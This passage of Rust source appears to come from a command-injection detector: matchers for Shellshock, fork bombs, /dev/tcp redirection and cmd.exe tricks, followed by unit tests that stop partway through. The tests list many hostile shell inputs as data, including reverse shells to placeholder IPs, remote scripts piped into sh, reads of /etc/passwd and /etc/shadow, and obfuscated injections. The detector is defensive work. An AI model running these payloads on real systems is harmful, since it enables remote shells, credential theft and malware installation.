/// has: bash function definitions (Shellshock), reverse-shell device paths, cmd.exe `FOR` and
/// `IF` statements, cmd.exe substring expansions.
mod shapes {
    use super::{Present, Scored};

    /// How many bytes of a value the structural matchers look at.
    const WINDOW: usize = 4096;

    /// Each shape needs one of these bytes; most values have none (the caller tests them).
    pub(super) const NEEDS: u32 =
        Present::DOLLAR | Present::LPAREN | Present::SLASH | Present::TILDE | Present::LETTER_F;

    /// `present` summarizes the bytes of the whole `text` (a superset of the window's): it
    /// only skips tests whose byte is absent.
    pub(super) fn special(text: &str, present: Present) -> Option<Scored> {
        let end = (0..=text.len().min(WINDOW))
            .rev()
            .find(|&i| text.is_char_boundary(i))
            .unwrap_or(0);
        let t = &text[..end];
        let hit = |score: f32, why: &str| {
            Some(Scored {
                score,
                evidence: why.into(),
            })
        };
        let b = t.as_bytes();
        // Each shape needs one byte that most values lack, looked up in `present` first.
        let has = |flag: u32| present.has(flag);
        if has(Present::DOLLAR) && php_interpolated_call(t) {
            return hit(
                0.85,
                "PHP string interpolation '{${...}}' calling a function",
            );
        }
        // `()` found from its `(` (a searcher built per call costs more on short values).
        let parens = has(Present::LPAREN)
            && memchr::memchr_iter(b'(', b).any(|p| b.get(p + 1) == Some(&b')'));
        if parens && statement_starts(t).any(|s| function_definition(&t[s..])) {
            return hit(
                0.9,
                "bash function definition '() {' (Shellshock or a fork bomb)",
            );
        }
        if has(Present::SLASH)
            && (dev_socket_path(b) || (has(Present::DOLLAR) && dev_variable_socket(t)))
        {
            return hit(
                0.85,
                "bash network redirection through /dev/tcp or /dev/udp",
            );
        }
        if has(Present::TILDE) && cmd_substring(t) {
            return hit(
                0.8,
                "cmd.exe substring expansion %VAR:~n,m% (spells a command)",
            );
        }
        // Both statements start with `for` or `if`; most values have neither, so lower-case
        // only when one does (lower-casing keeps every offset).
        if !has(Present::LETTER_F) || !keyword_statement(b, has(Present::SHELL)) {
            return None;
        }
        let lower = t.to_ascii_lowercase();
        for start in statement_starts(&lower) {
            let seg = &lower[start..];
            if cmd_for(seg) {
                return hit(0.8, "cmd.exe FOR loop (FOR ... IN (...) DO command)");
            }
            // `cmd_if` needs the line to start with "if": most statements are not cut to
            // their line for it.
            if seg.starts_with("if") && cmd_if(seg.lines().next().unwrap_or("")) {
                return hit(0.75, "cmd.exe IF statement running a command");
            }
        }
        None
    }

    fn starts_ci(b: &[u8], word: &[u8]) -> bool {
        b.len() >= word.len() && b[..word.len()].eq_ignore_ascii_case(word)
    }

    /// `/dev/tcp/` or `/dev/udp/` occurs in `b`, ASCII case ignored: one pass over the `/`.
    fn dev_socket_path(b: &[u8]) -> bool {
        memchr::memchr_iter(b'/', b).any(|p| {
            b.get(p + 1..p + 9).is_some_and(|w| {
                w[..4].eq_ignore_ascii_case(b"dev/")
                    && (w[4..].eq_ignore_ascii_case(b"tcp/")
                        || w[4..].eq_ignore_ascii_case(b"udp/"))
            })
        })
    }

    /// `{${name(` or `${@name(`: PHP evaluates a call inside a double-quoted string or an
    /// `eval`ed one (`${` followed by a call is a syntax error in a shell and a plain
    /// template placeholder in JavaScript, which never writes `{${` or `${@`).
    fn php_interpolated_call(t: &str) -> bool {
        let b = t.as_bytes();
        memchr::memmem::find_iter(b, b"${").take(64).any(|p| {
            let braced = p > 0 && b[p - 1] == b'{';
            let mut k = p + 2;
            let silenced = b.get(k) == Some(&b'@');
            if silenced {
                k += 1;
            }
            let name = b[k.min(b.len())..]
                .iter()
                .take(64)
                .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                .count();
            (braced || silenced)
                && name >= 2
                && b[k].is_ascii_alphabetic()
                && b.get(k + name) == Some(&b'(')
        })
    }

    /// `() {` (Shellshock), `name(){ ...};name` (a function defined and called) or a function
    /// whose body runs itself in a pipeline or the background (`f(){ f|f& }`, a fork bomb).
    fn function_definition(t: &str) -> bool {
        let name_len = t
            .bytes()
            .take(32)
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b':' | b'.'))
            .count();
        let rest = &t[name_len..];
        let Some(body) = rest.strip_prefix("()") else {
            return false;
        };
        let body = body.trim_start();
        if !body.starts_with('{') {
            return false;
        }
        if name_len == 0 {
            return true;
        }
        let name = &t[..name_len];
        // The name used as a command: followed by a shell separator or the end, never by `(`
        // (a call in C-like code).
        let runs = |rest: &str| {
            rest.strip_prefix(name).is_some_and(|after| {
                after.trim_start().is_empty()
                    || after.trim_start().starts_with([';', '|', '&', '}', '\n'])
            })
        };
        let Some(close) = body.rfind('}') else {
            return false;
        };
        let tail = body[close + 1..].trim_start();
        let tail = tail.strip_prefix(';').unwrap_or(tail).trim_start();
        let inner = &body[1..close];
        let piped = |p: usize| {
            let ident = |c: u8| c.is_ascii_alphanumeric() || c == b'_';
            (p == 0 || !ident(inner.as_bytes()[p - 1]))
                && inner[p + name.len()..].trim_start().starts_with(['|', '&'])
        };
        runs(tail) || inner.match_indices(name).take(16).any(|(p, _)| piped(p))
    }

    /// `d=/dev;...>$d/tcp/host/port`: the device directory assigned to a variable and the
    /// network path built from it, which hides `/dev/tcp` from a literal match.
    fn dev_variable_socket(t: &str) -> bool {
        let b = t.as_bytes();
        memchr::memmem::find_iter(b, b"=/dev").take(16).any(|p| {
            let name_len = b[..p]
                .iter()
                .rev()
                .take(32)
                .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                .count();
            let after = b.get(p + 5).copied();
            if name_len == 0 || after.is_some_and(|c| c.is_ascii_alphanumeric()) {
                return false;
            }
            let name = &t[p - name_len..p];
            ["/tcp/", "/udp/"].iter().any(|proto| {
                [format!("${name}{proto}"), format!("${{{name}}}{proto}")]
                    .iter()
                    .any(|needle| t.contains(needle.as_str()))
            })
        })
    }

    /// `%NAME:~n,m%`.
    fn cmd_substring(t: &str) -> bool {
        let b = t.as_bytes();
        memchr::memmem::find_iter(b, b":~").any(|p| {
            let before = &b[..p];
            let name = before
                .iter()
                .rev()
                .take(40)
                .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                .count();
            let opened = name > 0 && before.len() > name && before[before.len() - name - 1] == b'%';
            let after = &b[p + 2..];
            let num = after
                .iter()
                .take(12)
                .take_while(|c| c.is_ascii_digit() || matches!(c, b',' | b'-'))
                .count();
            opened && num > 0 && after.get(num) == Some(&b'%')
        })
    }

    /// Whether one of the [`statement_starts`] begins with `for` or `if` (any case). Found from
    /// the other end: only an `f` can be part of either keyword, and most values have few.
    /// Without `separators` (a byte of [`Present::SHELL`], which holds them all) the value
    /// start is the only one, looked at directly.
    pub(super) fn keyword_statement(b: &[u8], separators: bool) -> bool {
        let separator = |c: &u8| matches!(c, b'&' | b'|' | b';' | b'(' | b'\n' | b'\r');
        let blank = |c: &u8| matches!(c, b' ' | b'\t' | b'@');
        if !separators {
            let start = b.iter().position(|c| !blank(c)).unwrap_or(b.len());
            return starts_ci(&b[start..], b"for") || starts_ci(&b[start..], b"if");
        }
        // `statement_starts` maps the value start, and each of the first 63 separators, to the
        // first byte after it that is no blank: `q` is such a start when the bytes before it
        // are blanks back to the value start or back to one of those separators.
        let is_start = |q: usize| {
            let r = q - b[..q].iter().rev().take_while(|c| blank(c)).count();
            r == 0
                || (separator(&b[r - 1]) && b[..r - 1].iter().filter(|c| separator(c)).count() < 63)
        };
        memchr::memchr2_iter(b'f', b'F', b).any(|p| {
            (starts_ci(&b[p..], b"for") && is_start(p))
                || (p > 0 && matches!(b[p - 1], b'i' | b'I') && is_start(p - 1))
        })
    }

    /// Offsets where a statement may start: the value start and after `&`, `|`, `;`, `(` or a
    /// line break (at most 64 of them).
    fn statement_starts(t: &str) -> impl Iterator<Item = usize> + '_ {
        std::iter::once(0)
            .chain(
                t.bytes()
                    .enumerate()
                    .filter(|(_, c)| matches!(c, b'&' | b'|' | b';' | b'(' | b'\n' | b'\r'))
                    .map(|(i, _)| i + 1),
            )
            .take(64)
            .map(move |i| {
                i + t.as_bytes()[i.min(t.len())..]
                    .iter()
                    .take_while(|c| matches!(c, b' ' | b'\t' | b'@'))
                    .count()
            })
    }

    /// `for [/d|/r path|/l|/f "opts"] %x in (...) do command` (lowercased).
    fn cmd_for(seg: &str) -> bool {
        let Some(rest) = seg.strip_prefix("for") else {
            return false;
        };
        if !rest.starts_with([' ', '\t']) {
            return false;
        }
        let words: Vec<&str> = rest.split_whitespace().take(12).collect();
        let Some(var) = words
            .iter()
            .position(|w| w.starts_with('%') && w.len() >= 2)
        else {
            return false;
        };
        if words.get(var + 1) != Some(&"in") {
            return false;
        }
        let Some(open) = rest.find(" in") else {
            return false;
        };
        let tail = &rest[open + 3..];
        let Some(tail) = tail.trim_start().strip_prefix('(') else {
            return false;
        };
        closing_paren(tail).is_some_and(|p| {
            let after = tail[p + 1..].trim_start();
            after.starts_with("do") && !after[2..].starts_with(|c: char| c.is_ascii_alphanumeric())
        })
    }

    /// The `)` closing the set of a FOR loop: nested parentheses counted, the `'command'` of
    /// `for /f` skipped (it has parentheses of its own).
    fn closing_paren(tail: &str) -> Option<usize> {
        let mut depth = 0usize;
        let mut quoted = false;
        for (i, c) in tail.bytes().enumerate().take(1024) {
            match c {
                b'\'' => quoted = !quoted,
                b'(' if !quoted => depth += 1,
                b')' if !quoted && depth == 0 => return Some(i),
                b')' if !quoted => depth -= 1,
                _ => {}
            }
        }
        None
    }

    /// cmd.exe comparison operators (lowercased).
    const CMP: &[&str] = &["equ", "neq", "lss", "leq", "gtr", "geq"];

    /// Whitespace-separated words, a double-quoted stretch kept in one word (at most 12).
    fn quoted_words(s: &str) -> Vec<String> {
        let mut out: Vec<String> = Vec::new();
        let mut cur = String::new();
        let mut quoted = false;
        for c in s.chars().take(512) {
            if c == '"' {
                quoted = !quoted;
            }
            if c.is_whitespace() && !quoted {
                if !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                    if out.len() >= 12 {
                        return out;
                    }
                }
            } else {
                cur.push(c);
            }
        }
        if !cur.is_empty() {
            out.push(cur);
        }
        out
    }

    /// `if [not] (a)==(b) command`, `if {%1} == {}`: cmd.exe compares strings literally, so
    /// batch files wrap each operand in brackets to survive empty ones. Each operand is
    /// bracketed on its own (C and JavaScript bracket the whole condition); a command must
    /// follow unless an operand is a batch parameter (`%1`, `%NAME%`).
    fn bracketed_comparison(rest: &str) -> bool {
        let rest = rest.trim_start();
        let rest = rest.strip_prefix("not ").unwrap_or(rest).trim_start();
        let Some(eq) = rest.find("==") else {
            return false;
        };
        let (left, right) = (rest[..eq].trim_end(), rest[eq + 2..].trim_start());
        let pair = |open: char| match open {
            '(' => Some(')'),
            '{' => Some('}'),
            '[' => Some(']'),
            _ => None,
        };
        let Some(open) = left.chars().next() else {
            return false;
        };
        let Some(close) = pair(open) else {
            return false;
        };
        let left_ok =
            left.ends_with(close) && !left[1..left.len() - 1].contains([open, close, ' ']);
        let Some(r_end) = right.strip_prefix(open).and_then(|r| r.find(close)) else {
            return false;
        };
        let right_inner = &right[1..1 + r_end];
        let command = right[r_end + 2..].trim();
        let batch_param = |s: &str| {
            s.starts_with('%')
                && s.len() >= 2
                && s[1..]
                    .bytes()
                    .all(|c| c.is_ascii_alphanumeric() || c == b'%')
        };
        let param = batch_param(&left[1..left.len().max(2) - 1]) || batch_param(right_inner);
        left_ok
            && !right_inner.contains([open, ' '])
            && (param
                || command.split_whitespace().next().is_some_and(|w| {
                    // `then` / `do` close the condition of Basic, Lua or a shell `if`:
                    // pseudo-code, not cmd.exe, which runs the word itself.
                    w.len() >= 2
                        && w.starts_with(|c: char| c.is_ascii_alphabetic())
                        && !matches!(w, "then" | "do" | "and" | "or")
                }))
    }

    /// `if [/i] [not] (exist x|defined x|errorlevel n|a==b|a equ b) command` (lowercased).
    fn cmd_if(seg: &str) -> bool {
        let Some(rest) = seg.strip_prefix("if") else {
            return false;
        };
        let rest = match rest.strip_prefix("/i") {
            Some(r) if r.starts_with([' ', '\t']) => r,
            _ => rest,
        };
        if bracketed_comparison(rest) {
            return true;
        }
        // Braces and "cond:" belong to C, JavaScript and Python.
        let unquoted: String = rest.split('"').step_by(2).collect::<Vec<_>>().join("\"\"");
        let t = unquoted.trim_end();
        if !rest.starts_with([' ', '\t']) || t.contains('{') || t.ends_with(':') || t.contains(": ")
        {
            return false;
        }
        let words = quoted_words(rest);
        let mut words = words
            .iter()
            .map(String::as_str)
            .skip_while(|w| *w == "/i" || *w == "not");
        let Some(first) = words.next() else {
            return false;
        };
        let remaining: Vec<&str> = words.collect();
        if let Some(inner) = first.strip_prefix('(') {
            // cmd.exe compares with words inside parentheses: "if not (2 equ 2) echo".
            let op = remaining.first().is_some_and(|w| CMP.contains(w));
            return !inner.is_empty() && op && remaining.len() >= 3;
        }
        if matches!(first, "exist" | "defined" | "errorlevel" | "cmdextversion") {
            return remaining.len() >= 2;
        }
        // The comparison stands outside parentheses ("if (a == b)" is C or JavaScript).
        if first.starts_with('(') && !first.ends_with(')') {
            return false;
        }
        let eq = first.contains("==") && !first.ends_with("==") || remaining.first() == Some(&"==");
        let op = remaining.first().is_some_and(|w| CMP.contains(w));
        let need = if first.contains("==") && !first.ends_with("==") {
            1
        } else {
            3
        };
        (eq || op) && remaining.len() >= need
    }

    #[cfg(test)]
    mod tests {
        use super::keyword_statement;

        #[test]
        fn without_separators_only_the_value_start_is_read() {
            let parts = [
                "for", "if", "FoR", "iF", " ", "\t", "@", "f", "i", "I", "x", "of", "é", "\n",
            ];
            let mut rng = crate::test_rng::TestRng::new(0x9E37_79B9_7F4A_7C15);
            let mut found = 0;
            for _ in 0..20_000 {
                let t = rng.pieces(&parts, 6);
                let want = keyword_statement(t.as_bytes(), true);
                found += usize::from(want);
                if !t.contains('\n') {
                    assert_eq!(keyword_statement(t.as_bytes(), false), want, "{t:?}");
                }
            }
            assert!(found > 1000, "{found}");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn det() -> CmdiDetector {
        CmdiDetector::with_commands([
            "ls", "cat", "id", "whoami", "ping", "sleep", "uname", "paste", "date", "time", "echo",
            "wget", "curl", "nc", "grep", "sort", "more", "file", "who", "find", "sh", "bash",
            "cut", "python3", "set", "cd", "kill", "head", "type",
        ])
    }

    #[track_caller]
    fn attack(text: &str) {
        let f = det().inspect(text);
        assert!(f.is_some(), "missed attack {text:?}");
        let f = f.unwrap_or_else(|| Finding::new(Check::Cmdi, 0.0, ""));
        assert_eq!(f.check, Check::Cmdi);
        assert!(
            (THRESHOLD..=1.0).contains(&f.score),
            "{text:?}: score {}",
            f.score
        );
        assert!(!f.evidence.is_empty());
    }

    #[track_caller]
    fn benign(text: &str) {
        let f = det().inspect(text);
        assert!(f.is_none(), "false positive on {text:?}: {f:?}");
    }

    #[test]
    fn plain_words_run_only_for_a_command_or_an_if_statement() {
        let d = det();
        // Attacks spelled with words and spaces alone: a command first, or cmd.exe's IF.
        for t in [
            "whoami",
            "uname -a",
            "IF        EXIST filename         CMD",
            "  if defined variable echo x",
        ] {
            assert!(d.plain_words_may_run(t), "{t:?}");
            attack(t);
        }
        // Names and sentences whose first word names no command: skipped, and rightly.
        for t in [
            "cortada mercader",
            "Siobhán Ní Bhriain",
            "Click on user to follow",
            "calle castropol 11",
            "Gift card",
            "iffy weather",
        ] {
            if !d.plain_words_may_run(t) {
                benign(t);
            }
        }
        assert!(!d.plain_words_may_run("cortada mercader"));
        assert!(!d.plain_words_may_run("Click on user to follow"));
    }

    #[test]
    fn separators_at_start_or_glued() {
        for t in [
            ";id",
            "; id",
            "x|id",
            "a;id",
            "1;ls -la",
            "|id",
            "||id|",
            "&& ls",
            "& ls -l /",
        ] {
            attack(t);
        }
    }

    #[test]
    fn prefixes_that_are_not_prose() {
        for t in [
            "127.0.0.1; ls",
            "127.0.0.1 && cat /etc/passwd",
            "example.com | id",
            "8.8.8.8;sleep 5",
            "\";id",
            "';id;'",
            "\"; whoami #",
            "a)|id",
            "x=;id",
        ] {
            attack(t);
        }
    }

    #[test]
    fn substitutions() {
        for t in [
            "$(id)",
            "`id`",
            "x`whoami`",
            "$(`whoami`)",
            "ping $(whoami).attacker.com",
            "; echo `id`",
            "<(id)",
            "name=$(cat /etc/passwd)",
        ] {
            attack(t);
        }
    }

    #[test]
    fn obfuscation() {
        for t in [
            ";w'h'o'am'i",
            ";c\\at /etc/passwd",
            ";cat${IFS}/etc/passwd",
            ";cat$IFS/etc/passwd",
            ";{cat,/etc/passwd}",
            ";/???/??t /etc/passwd",
            ";who$@ami",
            "x;w\"ho\"ami",
            "& w^h^o^a^m^i",
        ] {
            attack(t);
        }
    }

    #[test]
    fn absolute_paths_and_wrappers() {
        for t in [
            "foo;/bin/cat /etc/passwd",
            "abc|/usr/bin/id",
            "; sudo cat /etc/shadow",
            "; nohup nc -e /bin/sh 10.0.0.1 4444",
        ] {
            attack(t);
        }
    }

    #[test]
    fn prose_prefix_needs_shell_arguments() {
        attack("hello;cat /etc/passwd");
        attack("search; ls -la /tmp");
        attack("abc; ping -c 3 10.0.0.1");
        benign("hello; cat food is great");
        benign("Hello; sort by date, please.");
    }

    #[test]
    fn english_passes() {
        for t in [
            "copy & paste",
            "Tom & Jerry",
            "time | date",
            "rock & roll",
            "this; that",
            "Q&A",
            "R&D",
            "AT&T",
            "salt & pepper",
            "ls",
            "cat",
            "copy&paste",
            "He left; who cares",
            "Terms & Conditions | Help",
            "Home | About | Contact",
            "| date | time |",
            "Fish & chips (cat friendly)",
            "O'Brien & Sons",
            "Tom&nbsp;&amp;&nbsp;Jerry",
            "Page 2 | more",
            "see attached; file is large",
            "a=1&b=2&id=3",
            "Price: $5 & $10",
        ] {
            benign(t);
        }
    }

    #[test]
    fn pasted_code_passes() {
        for t in [
            "var a = 1; return a;",
            "print(x); exit()",
            "x = 1; date = new Date();",
            "items.sort(); file.close()",
            "$(document).ready(function() { init(); });",
            "$('#id').hide();",
            "if (a && b) { run(); }",
            "Run `flask run` to start the server",
            "Use the `ls -la` command to list files",
        ] {
            benign(t);
        }
    }

    #[test]
    fn structure_beyond_separators() {
        attack("<!--#exec cmd=\"/bin/cat /etc/passwd\"-->");
        attack("id;");
        attack("CMD=$'id';$CMD");
        attack("a=nc&&$a -nlvp 555 && id");
        attack(";$u whoami");
        attack("`cut crs312``dig 34test`");
        attack("\nid");
        attack("x\ncat /etc/passwd");
        benign(";$a $b $c");
    }

    #[test]
    fn documentation_and_markup_pass() {
        for t in [
            "See :meth:`Flask.run` and ``flask run``",
            "the :command:`cat` program",
            "Install `pytest`_ first.",
            "<p>Tom &amp; Jerry</p><script>init();</script>",
            "Run:\n    ls -la\nthen continue",
            "a('x')\nfile x.txt",
            "x:\n  \"\"\"This :meth:`command` decorator",
        ] {
            benign(t);
        }
    }

    #[test]
    fn whole_value_command_lines() {
        for t in [
            "ls -la /tmp",
            "ls -l /etc/passwd",
            "cat /etc/shadow",
            "find . -exec cat {} \\;",
            "w'h'o'am'i /",
            "/bin/cat /etc/passwd",
            "sort -r /etc/group",
        ] {
            attack(t);
        }
        for t in [
            "a < b and c > d",
            "sort by price",
            "find my order",
            "cat pictures",
            "cat",
            "file a complaint",
            "more info please",
            "date night ideas",
            "/api/test",
            "time flies",
        ] {
            benign(t);
        }
    }

    fn tools() -> CmdiDetector {
        det().with_tools()
    }

    #[track_caller]
    fn tool_attack(text: &str) {
        let f = tools().inspect(text);
        assert!(f.is_some(), "missed attack {text:?}");
    }

    #[track_caller]
    fn tool_benign(text: &str) {
        let f = tools().inspect(text);
        assert!(f.is_none(), "false positive on {text:?}: {f:?}");
    }

    #[test]
    fn attacker_tools_count_when_absent_from_path() {
        for t in [
            "nc -e /bin/sh 10.0.0.1 4444",
            "ncat 10.1.2.3 9001 -e /bin/bash",
            "wget http://203.0.113.9/x.sh",
            "curl -s https://evil.example/p.sh | sh",
            "wget -O- http://203.0.113.9/i | bash",
            "bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
            "python3 -c 'import socket,os;s=socket.socket()'",
            "perl -e 'exec \"/bin/sh\"'",
            "whoami",
            "ifconfig",
            "sleep 7",
            "ping 192.0.2.1",
            "netstat -tulpn",
            "sudo whoami",
            "echo aWQ= | base64 -d | sh",
        ] {
            tool_attack(t);
        }
        for t in [
            "sleep 8 hours a night",
            "ping me when you are back",
            "net profit for the year",
            "net use of funds",
            "python is my favourite language",
            "node modules are large",
            "curl your hair",
            "add-on pack",
            "set-up guide",
        ] {
            tool_benign(t);
        }
    }

    #[test]
    fn windows_command_lines() {
        for t in [
            "ipconfig /all",
            "net localgroup administrators eve /add",
            "netsh advfirewall set allprofiles state off",
            "type C:\\Windows\\win.ini",
            "dir c:\\",
            "cmd /c whoami",
            "cmd.exe /k ver",
            "powershell -enc SQBFAFgA",
            "powershell.exe -EncodedCommand SQBFAFgA",
            "Invoke-WebRequest http://192.0.2.7/a.ps1 -OutFile a.ps1",
            "& w^h^o^a^m^i",
            "%COMSPEC% /c dir",
            "%ProgramFiles:~10,1%%ProgramFiles:~5,1%d",
            "for /f \"tokens=*\" %i in ('whoami') do echo %i",
            "FOR %x IN (a,b) DO calc",
            "| for /l %n in (1,1,9) do ping -n 2 192.0.2.1",
            "if exist C:\\boot.ini type C:\\boot.ini",
            "IF /I \"%X%\" EQU \"1\" echo one",
            "if not (1 equ 1) echo x",
            "dir+c:\\",
            // A caret before the first letter too; `call` and `start` run what follows.
            "x&^w^h^o^a^m^i",
            "x & call whoami",
            "x & start whoami",
        ] {
            tool_attack(t);
        }
        for t in [
            "rock & start over",
            "Tom & call me",
            "^_^ thanks",
            "For more details, see the FAQ (section 3) do not hesitate",
            "if request.method == 'POST':",
            "if (a == b) { run(); }",
            "If you exist in our records, please sign in",
            "type your name here",
            "Directory: C:\\Users\\me\\Documents",
            "Discount 50% off, 20% more",
        ] {
            tool_benign(t);
        }
    }

    #[test]
    fn obfuscation_in_whole_values() {
        for t in [
            "$'\\x63\\x61\\x74' /etc/passwd",
            "{,cat,/etc/passwd}",
            "/b[i]n/c[a]t /etc/hosts",
            "c\\at${IFS}/etc/passwd",
            "\\nid;",
            "'\\n/bin/ls -la\\n'",
            "() { :; }; echo vulnerable",
            ":(){ :|:& };:",
            "exec 5<>/dev/tcp/198.51.100.3/80",
        ] {
            tool_attack(t);
        }
        for t in [
            "Use \\n to start a new line",
            "() => { init() }",
            "foo() { return 1 }",
        ] {
            tool_benign(t);
        }
    }

    #[test]
    fn documentation_transcripts_and_fences_pass() {
        for t in [
            "```python\nimport os\nprint(os.getcwd())\n```",
            "```sh\n$ pip install flask | tee log.txt\n```",
            "Run this:\n\n    $ netstat -nlp | grep 5000",
            "pip install pytest\n    pip install -e .  # editable install",
            "| name | value |\n|------|-------|\n| sort | true |",
            "<h2>Title</h2>\n<p>for more see the docs</p>",
        ] {
            tool_benign(t);
        }
    }

    #[test]
    fn evidence_names_separator_command_and_reason() {
        let f = det().inspect("127.0.0.1;cat /etc/passwd");
        let e = f.map(|f| f.evidence).unwrap_or_default();
        assert!(e.contains("';'"), "{e}");
        assert!(e.contains("'cat'"), "{e}");
        assert!(e.contains("after an address"), "{e}");
        assert!(e.contains("path"), "{e}");
    }

    #[test]
    fn unknown_commands_do_not_count() {
        benign(";notacommand");
        benign("; rm -rf /"); // rm is not in this test detector's list
        attack("; ls -la");
    }

    #[test]
    fn hostile_inputs_are_bounded_and_do_not_panic() {
        let deep = "$(".repeat(10_000);
        let _ = det().inspect(&deep);
        let ticks = "`".repeat(10_001);
        let _ = det().inspect(&ticks);
        let seps = ";".repeat(100_000);
        assert!(det().inspect(&seps).is_none());
        let mixed = "é;'\"\\$`(){}|&\n#".repeat(5_000);
        let _ = det().inspect(&mixed);
        let globs = ";/???/??t ".repeat(2_000);
        let _ = det().inspect(&globs);
        let _ = det().inspect("$");
        let _ = det().inspect("${");
        let _ = det().inspect("$((");
        let _ = det().inspect("&#");
        let _ = det().inspect("\\");
        let _ = det().inspect(";\\");
        let _ = det().inspect("'");
    }

    #[test]
    fn shell_expansions_that_spell_a_command() {
        for t in [
            "c{a,oun}t",
            "{l,-lh}s",
            ";{,ls}",
            "uname$u -a",
            "c$_at /etc/passwd",
            ";cat$u /etc$u/passwd",
            "ping`` 127.0.0.1",
            "pi<()ng 127.0.0.1",
            "\n+ls+-la",
            "a;+ls -la /",
        ] {
            attack(t);
        }
        for t in [
            // A trailing `$x` is how passwords and templates look.
            "cat$x",
            "Run ``ls`` to list files",
            "{a,b}",
            "price: 5+3 & tax",
            "Tom & Jerry + friends",
        ] {
            benign(t);
        }
    }

    #[test]
    fn php_interpolation_and_function_definitions() {
        for t in [
            "{${sleep(20)}}",
            " {${system(id)}} ",
            "${@print(md5(x))}",
            "; f() { f | f & } f",
            "x;b(){ b|b& };b",
        ] {
            attack(t);
        }
        for t in [
            "`${formatDate(d)}`",
            "Total: ${price}",
            "render() { return render(x) }",
            "{${name}}",
        ] {
            benign(t);
        }
    }

    #[test]
    fn markup_attribute_values() {
        for t in [
            "<?xml version=\"1.0\"?><root><a probe=\";cat /etc/passwd\"></a></root>",
            "<a x=\"cat /etc/passwd | sh\"></a>",
            "<root><a p=\"&#x7B;l,-lh&#x7D;s\"/></root>",
        ] {
            attack(t);
        }
        // Padding with many attributes, or one long value, does not push the command out.
        let pad: String = (0..40).map(|i| format!(" a{i}=\"x\"")).collect();
        attack(&format!("<r{pad} p=\";cat /etc/passwd\"/>"));
        attack(&format!("<r p=\";cat /etc/passwd;{}\"/>", "y".repeat(5000)));
        for t in [
            "<p title=\"Tom &amp; Jerry\">copy &amp; paste</p>",
            "<a href=\"/search?q=time | date\">x</a>",
            "<img src=\"a.png\" alt=\"ls\">",
        ] {
            benign(t);
        }
    }

    #[test]
    fn score_reports_below_the_threshold() {
        let d = det();
        let (s, e) = d.score("Tom & Jerry | ls").unwrap_or_default();
        assert!(s > 0.0 && s < THRESHOLD, "{s} {e}");
        let (s, _) = d.score(";id").unwrap_or_default();
        assert!(s >= THRESHOLD);
    }

    #[test]
    fn versioned_names_and_program_directories() {
        let d = tools();
        for t in [
            ";gcc10.1 -o x x.c",
            ";python3.10 -c 'import os'",
            "/bin/ab",
            "bin/visudo",
        ] {
            assert!(d.inspect(t).is_some(), "{t:?}");
        }
        // A version without a command name, prose and a bare unknown word pass.
        for t in [
            "release 3.10; notes",
            "v1.2.3",
            "ab",
            "see bin/ for files",
            "/api/ab",
        ] {
            assert!(d.inspect(t).is_none(), "{t:?}");
        }
        assert!(unversioned("gcc7.4") == Some(["gcc7", "gcc"]));
        assert!(unversioned("python3").is_none() && unversioned("v1.").is_none());
    }

    #[test]
    fn admin_tools_need_shell_structure() {
        let d = tools();
        for t in [
            "ansible-pull --url example.com",
            "time; chef-client -t 1.1.1.1",
            "'ll' /var/www/",
            ";aptitude install nmap",
            "1;iptables -F",
        ] {
            assert!(d.inspect(t).is_some(), "{t:?}");
        }
        // Bare names and prose around them never count.
        for t in [
            "ansible-console",
            "docker",
            "We use ansible and chef; docker too",
            "I went home; ll see you",
            "chef-d'oeuvre",
            "time; less is more",
        ] {
            assert!(d.inspect(t).is_none(), "{t:?}");
        }
    }

    #[test]
    fn windows_bracketed_if_and_variable_dev_tcp() {
        let d = tools();
        for t in [
            "if (AA) == (AA) echo same",
            "if not {%1} == {}",
            "if (%1)==(LTRS) CD C:\\WORD",
            "d=/dev&&(sh)0>$d/tcp/10.0.0.1/777",
        ] {
            assert!(d.inspect(t).is_some(), "{t:?}");
        }
        for t in [
            "if (a == b) { x }",
            "if (a)==(b)",
            "if (a)==(b): return x",
            "if (a)==(b) then",
            "d=/dev/null and tcp/ip",
        ] {
            assert!(d.inspect(t).is_none(), "{t:?}");
        }
    }

    #[test]
    fn mail_protocol_lines_after_a_break() {
        let d = det();
        for t in [
            "\r\nMAIL FROM:<a@b.com>",
            "x\r\nRETR 123",
            "\r\na001 EXAMINE INBOX",
        ] {
            assert!(d.inspect(t).is_some(), "{t:?}");
        }
        for t in [
            "MAIL FROM:<a@b.com>",
            "Menu\nTop 10 dishes",
            "Hi\nhelp me please",
        ] {
            assert!(d.inspect(t).is_none(), "{t:?}");
        }
    }

    #[test]
    fn glob_matching() {
        assert!(glob_match(b"??t", b"cat"));
        assert!(glob_match(b"c*", b"cat"));
        assert!(glob_match(b"*a*", b"cat"));
        assert!(!glob_match(b"??t", b"cats"));
        assert!(!glob_match(b"d*", b"cat"));
    }

    #[test]
    fn from_env_finds_commands_on_path_and_builtins() {
        let d = CmdiDetector::from_env();
        assert!(d.knows("echo") && d.knows("cd"), "builtins");
        assert!(d.knows("DIR"), "cmd.exe builtins ignore case");
        assert!(!d.knows("return") && !d.knows("x"));
        // sh exists on every POSIX machine that runs the tests.
        if cfg!(unix) {
            assert!(
                d.knows("sh"),
                "PATH scan found no sh; PATH={:?}",
                std::env::var("PATH")
            );
        }
    }

    #[test]
    fn bare_tags_of_rich_text_are_not_redirections() {
        for t in [
            "<p>copy & paste</p>",
            "<p title=\"Tom & Jerry\">copy & paste</p>",
            "<li>cut & paste</li><li>rock & roll</li>",
            "<p>Tom &amp; Jerry</p><br/>",
        ] {
            tool_benign(t);
        }
        for t in [
            "<p>; cat /etc/passwd</p>",
            "<b>x</b>|id",
            "<p>a</p>; wget http://203.0.113.9/x.sh",
        ] {
            tool_attack(t);
        }
    }

    #[test]
    fn word_lookup_agrees_with_known() {
        let d = CmdiDetector::from_env();
        let l = lists();
        let mut names: Vec<String> = d.commands.iter().cloned().collect();
        for n in l.tools.iter().chain(&l.windows_tools).chain(&l.windows) {
            names.push((*n).to_string());
        }
        for n in names {
            for w in [
                n.clone(),
                n.to_ascii_uppercase(),
                format!("{n}.EXE"),
                format!("{n}.exe"),
            ] {
                assert_eq!(d.names_a_command(&w), d.knows(&w), "{w}");
            }
        }
        for w in [
            "Invoke-WebRequest",
            "Get-Process",
